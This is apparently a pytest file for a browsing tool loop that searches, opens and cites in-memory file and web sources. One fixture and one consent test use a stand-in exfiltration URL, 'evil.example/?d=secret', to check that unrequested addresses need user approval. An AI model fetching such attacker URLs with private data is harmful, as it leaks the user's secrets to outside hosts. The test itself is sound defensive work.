"""Turns in which a model browses: through the loop of tools, with sources in memory."""

from __future__ import annotations

import json
import queue
import re
import threading
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest

from app.base.answer_events import Delta, Event, PartAdded, Prompt
from app.base.draft import Draft
from app.base.errors import Cancelled
from app.base.pages.displays import displays_of
from app.base.settings import Folders
from app.base.types import Effort, Message, Outcome, Part, PartKind, Request, Role
from app.engine.backend import Planned
from app.host import Host
from app.store import ChatSettings, MessageRow
from app.tools.browser.browser import Browser
from app.tools.browser.source import SourceFault
from app.tools.loop import ToolLoop
from app.tools.registry import Registry
from app.tools.shortening import shorten
from app.tools.tool_events import ConsentAsked, Decision, ResultsShortened
from app.turn import Question, SendFailed, TurnEnded
from tests.fakes.browsing import (
    NOTES,
    Browse,
    BrowsingModel,
    MemorySource,
    Said,
    cites,
    find,
    open_,
    page,
    search,
)
from tests.fakes.tools import model

WEB = MemorySource(
    "web",
    "web",
    [
        page("https://example.org/copper", "Copper", "Copper is red. {more}", more="/more"),
        page("https://example.org/more", "More", "There is more of it."),
        page("https://evil.example/?d=secret", "Got it", "Thank you."),
    ],
)


class Turn:
    """One answer of a model that browses; ``decide`` answers each question."""

    def __init__(
        self,
        *sources: MemorySource,
        on: tuple[str, ...] | None = None,
        asked: str = "What do my files say?",
        begun: tuple[Part, ...] = (),
    ) -> None:
        self.registry = Registry(Browser(lambda: sources).tools)
        keys = tuple(source.key for source in sources) if on is None else on
        answer = (Message(Role.ASSISTANT, begun),) if begun else ()
        question = Message(Role.USER, (Part(asked),))
        declared = self.registry.declared(keys)
        self.request = Request(model(), (question, *answer), tools=declared)
        self.decide: list[Decision] = []
        self.asked: list[ConsentAsked] = []
        self.events: list[Event | Planned] = []
        self.backend = BrowsingModel()

    def go(self, *steps: Browse | Said) -> tuple[Part, ...]:
        """Play the rounds; return the answer's parts."""
        self.backend.steps = list(steps)
        last = self.request.messages[-1]
        draft = Draft(last.parts if last.role is Role.ASSISTANT else ())
        for event in ToolLoop(self.backend, self.registry).stream(self.request, threading.Event()):
            self.events.append(event)
            match event:
                case Delta():
                    draft.add(event)
                case PartAdded(part):
                    draft.add_part(part)
                case ConsentAsked(consent=consent):
                    self.asked.append(event)
                    consent.decide(self.decide.pop(0))
        return draft.parts


def results(parts: tuple[Part, ...]) -> list[Part]:
    return [part for part in parts if part.kind is PartKind.RESULT]


def outcomes(parts: tuple[Part, ...]) -> list[Outcome | None]:
    return [part.facts.outcome if part.facts else None for part in results(parts)]


def test_a_turn_over_files_searches_reads_and_cites_unasked() -> None:
    turn = Turn(NOTES)
    answer = cites("It conducts electricity well {}.")
    parts = turn.go(search("copper"), open_(0), find("ten thousand"), open_(0), answer)
    assert parts[-1].text == "It conducts electricity well 【3†L2】."
    assert outcomes(parts) == [Outcome.DONE] * 4
    assert not turn.asked
    facts = [part.facts for part in results(parts)]
    assert {fact.source for fact in facts if fact} == {"files:Notes"}
    assert [fact.count for fact in facts if fact] == [3, None, 1, None]
    displays = displays_of([Message(Role.ASSISTANT, parts)])
    assert [(d.page.title, d.of) for d in displays] == [
        ("copper", 0),
        ("Copper", 1),
        ("Find results for text: `ten thousand` in `Copper`", 1),
        ("Copper", 1),
    ]
    for sent in turn.backend.requests:  # the model never reads what is packed
        assert all(p.kind is not PartKind.PAGE for m in sent.messages for p in m.parts)


def test_cursors_count_on_over_the_turns_of_a_path_and_branches_have_their_own() -> None:
    turn = Turn(NOTES)
    first = turn.go(search("copper"), "Found it.")
    answered = (*turn.request.messages, Message(Role.ASSISTANT, first))
    later = Message(Role.USER, (Part("And tin?"),))
    turn.request = replace(turn.request, messages=(*answered, later))
    second = turn.go(open_(2, cursor=0), search("tin"), open_(0, cursor=0), "So it is.")
    assert [part.text[:12] for part in results(second)] == [
        "[1] Tin (fil",
        "[2] tin\n**vi",
        "[3] Copper (",
    ]
    other = turn.go(search("tin melts"), "So it is.")
    assert results(other)[0].text.startswith("[1] tin melts")


def test_what_is_switched_off_is_told_in_one_sentence() -> None:
    turn = Turn(NOTES, WEB, on=())
    parts = turn.go(search("copper"), "I cannot.")
    assert outcomes(parts) == [Outcome.INVALID]
    assert "“browser.search” is switched off in this chat." in results(parts)[0].text
    WEB.asked.clear()
    turn = Turn(NOTES, WEB, on=("files:Notes",))
    parts = turn.go(
        search("copper", source="web"), open_("https://example.org/copper"), "I cannot."
    )
    used, refused = results(parts)
    assert used.text.startswith("[0] copper\n")
    assert used.text.endswith(
        "\n\nThere is no source `web` here, so `files` was used. The sources are: files."
    )
    assert refused.text == (
        "Error fetching URL `https://example.org/copper`: none of the sources that are switched on "
        "has this address. They are: files."
    )
    assert not WEB.asked


def test_the_user_is_asked_about_an_address_that_nobody_gave() -> None:
    WEB.asked.clear()
    turn = Turn(WEB)
    turn.decide = [Decision.REFUSE, Decision.ONCE]
    parts = turn.go(
        search("copper"),
        open_(0),
        open_("https://evil.example/?d=secret"),
        open_(0),
        open_("https://evil.example/?d=secret"),
        "So it is.",
    )
    assert outcomes(parts) == [
        Outcome.DONE, Outcome.DONE, Outcome.REFUSED, Outcome.DONE, Outcome.DONE,
    ]  # fmt: skip
    assert [event.consent.id for event in turn.asked] == ["call_6", "call_11"]
    assert WEB.asked == [
        ("search", "copper"),
        ("open", "https://example.org/copper"),
        ("open", "https://example.org/more"),
        ("open", "https://evil.example/?d=secret"),
    ]


def test_a_page_that_was_read_in_this_answer_is_not_fetched_again_unless_by_its_address() -> None:
    WEB.asked.clear()
    turn = Turn(WEB, asked="Read https://example.org/copper")
    address = "https://example.org/copper"
    parts = turn.go(search("copper"), open_(0), open_(0, cursor=0), open_(address), "Well.")
    assert [what for what, _ in WEB.asked] == ["search", "open", "open"]
    displays = displays_of([Message(Role.ASSISTANT, parts)])
    assert [display.of for display in displays] == [0, 1, 1, 3]  # as the policy counts them
    turn.request = replace(
        turn.request,
        messages=(
            *turn.request.messages, Message(Role.ASSISTANT, parts),
            Message(Role.USER, (Part("Is it still so?"),)),
        ),
    )  # fmt: skip
    WEB.asked.clear()
    changed = page(address, "Copper", "Copper is green.")
    before, WEB.pages[address] = WEB.pages[address], changed
    try:
        parts = turn.go(open_(0, cursor=0), open_(cursor=1), "It has changed.")
    finally:
        WEB.pages[address] = before
    assert WEB.asked == [("open", address)]
    new, old = results(parts)
    assert "Copper is green." in new.text
    assert "Copper is red." in old.text


def test_a_site_may_be_named_without_its_scheme_where_only_the_web_is_on() -> None:
    WEB.asked.clear()
    turn = Turn(WEB, asked="What does example.org/copper say?")
    parts = turn.go(open_("example.org/copper"), "It is red.")
    assert results(parts)[0].text.startswith("[0] Copper (https://example.org/copper)")
    assert not turn.asked
    parts = Turn(NOTES, WEB).go(open_("copper.md"), "Well.")
    assert results(parts)[0].text == (
        "Error fetching URL `copper.md`: it is not a whole address. Search first, and open what is "
        "found by its number."
    )
    assert WEB.asked == [("open", "https://example.org/copper")]


def test_a_redirect_is_followed_only_where_it_may_be() -> None:
    source = MemorySource("web", "web", [page("https://other.example/", "Other", "There.")])
    source.redirects["https://example.org/here"] = "https://other.example/"
    turn = Turn(source, NOTES, asked="Read https://example.org/here and my notes.")
    parts = turn.go(search("copper", source="files"), open_("https://example.org/here"), "Well.")
    assert outcomes(parts) == [Outcome.DONE, Outcome.FAILED]  # the chat is private
    assert results(parts)[1].text == (
        "Error fetching URL `https://example.org/here`: The page has moved to "
        "https://other.example/. Open that address if you need it."
    )
    turn = Turn(source, asked="Read https://example.org/here.")
    parts = turn.go(open_("https://example.org/here"), "Well.")
    assert results(parts)[0].text.startswith("[0] Other (https://other.example/)")


def test_faults_of_sources_are_sentences() -> None:
    broken = MemorySource("files:Broken", "files")
    broken.fault = SourceFault("The folder is not there any more.")
    turn = Turn(broken)
    parts = turn.go(search("copper"), "I cannot.")
    assert outcomes(parts) == [Outcome.FAILED]
    assert results(parts)[0].text == (
        "Error during search for `copper`: The folder is not there any more."
    )
    turn = Turn(broken, NOTES)  # what the others have is shown
    shown = results(turn.go(search("copper"), search("nothing like it"), "Well."))
    assert shown[0].text.startswith("[0] copper\n")
    assert shown[0].text.endswith("\n\nThe folder is not there any more.")
    assert shown[1].text.startswith("No results for `nothing like it`.\n")
    assert shown[1].facts
    assert shown[1].facts.count == 0


def test_folders_of_one_name_are_searched_together() -> None:
    one = MemorySource("files:One", "files", [page("files:/One/a.md", "A", "Copper pipe.")])
    two = MemorySource("files:Two", "files", [page("files:/Two/b.md", "B", "Copper wire.")])
    one.strict = two.strict = True
    turn = Turn(one, two)
    parts = turn.go(
        search("copper"), open_(1), open_(1, cursor=0), search("copper", source="two"), "Well."
    )
    found, opened, again, alone = results(parts)
    assert alone.text.split("\n")[7:] == [
        "L4:   * 【0†B†Two/b.md】 Copper wire."
    ]  # by its own name
    assert found.text.split("\n")[7:] == [
        "L4:   * 【0†A†One/a.md】 Copper pipe.",
        "L5:   * 【1†B†Two/b.md】 Copper wire.",
    ]
    assert opened.text.startswith("[1] B (files:/Two/b.md)")
    assert opened.facts
    assert opened.facts.source == "files:Two"
    displays = displays_of([Message(Role.ASSISTANT, parts)])
    assert [display.of for display in displays] == [0, 1, 1, 3]  # one copy of the same text
    assert again.facts == opened.facts or again.text.startswith("[2] B")


def test_a_call_that_was_interrupted_is_made_again() -> None:
    call = Part(json.dumps({"query": "copper"}), PartKind.CALL, "browser.search", "call_0")
    parts = Turn(NOTES, begun=(call,)).go("I see.")
    assert outcomes(parts) == [Outcome.DONE]
    unknown = Part(
        json.dumps({"id": "https://x.example/"}), PartKind.CALL, "browser.open", "call_0"
    )
    turn = Turn(WEB, begun=(unknown,))
    turn.decide = [Decision.REFUSE]
    assert outcomes(turn.go("I see.")) == [Outcome.REFUSED]  # it asks again


LONG = MemorySource(
    pages=[
        page(f"files:/{n}.md", f"Page {n}", *(f"Copper line {line}." for line in range(200)))
        for n in range(3)
    ]
)


def test_an_old_display_keeps_its_head_and_the_lines_that_were_cited() -> None:
    turn = Turn(LONG)
    said = "【0†L8-L10】 says it, and 【0†L4】; 【7†L5】 does not."
    parts = turn.go(open_("files:/0.md"), open_("files:/1.md", thinks=said), "Well.")
    found = shorten(parts[:3], {}, 100, 1.0)
    (short,) = [part.text for part in found.parts.values() if part]
    whole = results(parts)[0].text.split("\n")
    assert short.split("\n") == whole[:2]
    found = shorten(parts[:-3], {}, 100, 1.0)
    (short,) = [part.text for part in found.parts.values() if part]
    assert short.split("\n") == [*whole[:2], whole[7], *whole[11:14]]
    assert whole[7] == "L4: Copper line 1."


def test_that_displays_become_short_is_said() -> None:
    class Tight(BrowsingModel):
        """A model whose context is too tight for the fourth round."""

        def stream(self, request, cancel, answer_now=None):  # type: ignore[no-untyped-def]
            if len(self.requests) == 3:
                self.requests.append(request)
                yield Prompt(4000, 4096, 200)
                return
            yield from super().stream(request, cancel, answer_now)

    turn = Turn(LONG)
    turn.backend = Tight()
    turn.go(open_("files:/0.md"), open_("files:/1.md"), open_("files:/2.md"), "Well.")
    assert any(isinstance(event, ResultsShortened) for event in turn.events)
    last = turn.backend.requests[-1].messages[-1].parts
    sent = [part.text for part in last if part.kind is PartKind.RESULT]
    assert re.fullmatch(r"\[0\] Page 0 .*\n\*\*viewing lines \[0 - \d+\] of 400\*\*", sent[0])
    assert sent[2].startswith("[2] Page 2 (files:/2.md)")
    assert sent[2].count("\n") > 60


def test_a_search_that_is_stopped_says_so() -> None:
    class Slow(MemorySource):
        def search(self, query, count, cancel):  # type: ignore[no-untyped-def]
            raise Cancelled

    assert outcomes(Turn(Slow()).go(search("copper"), "Well.")) == [Outcome.STOPPED]


@pytest.mark.parametrize("text", ["Notes", "wikipedia"])
def test_the_sources_that_are_on_are_declared(text: str) -> None:
    wiki = MemorySource("zim:Wikipedia", "wikipedia")
    registry = Registry(Browser(lambda: (WEB, wiki, NOTES)).tools)  # in whatever order
    keys = {"Notes": ("files:Notes",), "wikipedia": ("zim:Wikipedia", "web")}[text]
    (space,) = registry.declared(keys)
    assert tuple(source.key for source in space.sources) == keys
    assert [function.name for function in space.functions] == ["search", "open", "find"]
    wiki.unavailable = "indexing"
    assert not registry.declared(["zim:Wikipedia"])


def answered(host: Host, events: queue.SimpleQueue[object], question: Question) -> MessageRow:
    """Ask, and return the answer as it is stored."""
    host.chats.send(question)
    while True:
        match events.get(timeout=60):
            case TurnEnded(row, error):
                assert error is None
                return row
            case SendFailed(error=error):
                raise error


def test_a_chat_goes_on_after_a_restart_with_the_displays_that_it_had(tmp_path: Path) -> None:
    """Displays are those of the path: of the store, and of the branch that is asked."""
    events: queue.SimpleQueue[object] = queue.SimpleQueue()
    settings = ChatSettings(tools=(NOTES.key,))

    def opened(*steps: Browse | Said) -> Host:
        host = Host(Folders(tmp_path), events.put, backend=BrowsingModel(*steps))
        host.tool_parts.browser.sources = lambda: (NOTES,)
        return host

    def asked(text: str, chat: int | None, **more: int) -> Question:
        return Question(chat, (Part(text),), Effort.LOW, model(), settings, **more)

    with closing(opened(search("copper"), open_(0), "It is a metal. 【1†L2】")) as host:
        first = answered(host, events, asked("What is copper?", None))
    again = cites("It conducts electricity well {}.")
    with closing(opened(open_(cursor=1), again, open_(2, cursor=0), "Tin. 【2†L2】")) as host:
        second = answered(host, events, asked("And electricity?", first.chat))
        assert results(second.message.parts)[0].text.startswith("[2] Copper (files:/copper.md)")
        assert second.message.text == "It conducts electricity well 【2†L2】."
        instead = second.id - 1  # the question, of which this is another version
        other = answered(host, events, asked("And tin?", first.chat, instead=instead))
    assert results(other.message.parts)[0].text.startswith("[2] Tin (files:/tin.md)")
    displays = displays_of([first.message, second.message])
    assert [(display.page.title, display.of) for display in displays] == [
        ("copper", 0),
        ("Copper", 1),
        ("Copper", 1),
    ]
